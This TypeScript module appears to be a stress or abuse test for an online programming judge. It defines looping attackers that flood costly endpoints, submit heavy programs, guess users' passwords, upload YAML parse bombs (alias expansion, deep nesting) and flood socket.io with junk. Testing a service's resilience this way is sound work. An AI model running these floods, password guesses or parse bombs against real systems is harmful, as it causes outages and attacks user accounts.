import { setTimeout as sleep } from 'node:timers/promises'
import { pick } from './pick.ts'
import { attackPrograms } from './programs.ts'

/** What attackers need; each repeats one kind of attack until the signal is aborted. */
export interface AttackContext {
  readonly address: string
  readonly problemId: string
  /** Emails of accounts with a password. */
  readonly emails: readonly string[]
  readonly signal: AbortSignal
}

export interface Attacker {
  readonly cookie: string
  /** From 0; makes the programs of each attacker unique. */
  readonly number: number
}

/** Attackers continue whatever the answer; the pause prevents a busy loop when requests are refused immediately. */
const pauseMs = 100

async function again(signal: AbortSignal, act: (turn: number) => Promise<unknown>): Promise<void> {
  for (let turn = 0; !signal.aborted; turn++) {
    await act(turn).catch(() => null)
    await sleep(pauseMs, null, { signal }).catch(() => null)
  }
}

async function ask(
  place: AttackContext,
  cookie: string,
  path: string,
  init: RequestInit = {},
): Promise<void> {
  const signal = AbortSignal.any([place.signal, AbortSignal.timeout(60_000)])
  const headers = { cookie, ...init.headers }
  const answer = await fetch(`${place.address}${path}`, { ...init, headers, signal, redirect: 'manual' })
  await answer.arrayBuffer()
}

const json = (body: object): RequestInit => ({
  method: 'POST',
  headers: { 'content-type': 'application/json' },
  body: JSON.stringify(body),
})

/** Submits programs that occupy shared resources, as often as the rate limit allows. */
export function attackJudge(place: AttackContext, { cookie, number }: Attacker): Promise<void> {
  return again(place.signal, async (turn) => {
    const { code, language } = pick(attackPrograms, number + turn)
    const comment = language === 'python' ? '#' : '//'
    const body = json({ code: `${code}${comment} ${number} ${turn}\n`, language })
    await ask(place, cookie, `/api/submission/submit/${place.problemId}`, body)
  })
}

const floods = ['/', '/api/progress', '/api/problem/getAllProblem', '/api/user/check', '/problems'] as const

/** Sends the most expensive requests, several concurrently. */
export function flood(place: AttackContext, { cookie, number }: Attacker): Promise<void> {
  return again(place.signal, (turn) =>
    Promise.all(Array.from({ length: 4 }, (_, at) => ask(place, cookie, pick(floods, number + turn + at)))),
  )
}

/** Tries passwords of other users. */
export function guessPasswords(place: AttackContext, { number }: Attacker): Promise<void> {
  return again(place.signal, (turn) => {
    const emailId = pick(place.emails, number + turn)
    return ask(place, '', '/api/user/login', json({ emailId, password: `a wrong password ${turn}` }))
  })
}

const worstFiles = [
  `name: ${'{'.repeat(700)}`,
  `a: &a [x, x, x, x, x, x, x, x, x]\n${'bcdefgh'
    .split('')
    .map((name, at) => `${name}: &${name} [${`*${'abcdefgh'[at]}, `.repeat(9)}x]`)
    .join('\n')}\n`,
  `name: x\n${'\\('.repeat(600)}`,
  `${'![ '.repeat(500)}`,
]

/** Uploads invalid packages that are slow to parse. Users who are no teachers are refused before parsing. */
export function sendPackages(place: AttackContext, { cookie, number }: Attacker): Promise<void> {
  return again(place.signal, (turn) =>
    ask(place, cookie, `/api/problem/import?name=package-${number}.yaml`, {
      method: 'POST',
      headers: { 'content-type': 'application/octet-stream' },
      body: pick(worstFiles, number + turn),
    }),
  )
}

/** Opens sockets and sends invalid data. */
export function floodSockets(place: AttackContext, { cookie, number }: Attacker): Promise<void> {
  return again(place.signal, async (turn) => {
    const path = `/socket.io/?EIO=4&transport=polling&t=${number}-${turn}`
    await ask(place, cookie, path)
    await ask(place, cookie, path, { method: 'POST', body: '40'.repeat(30_000) })
  })
}
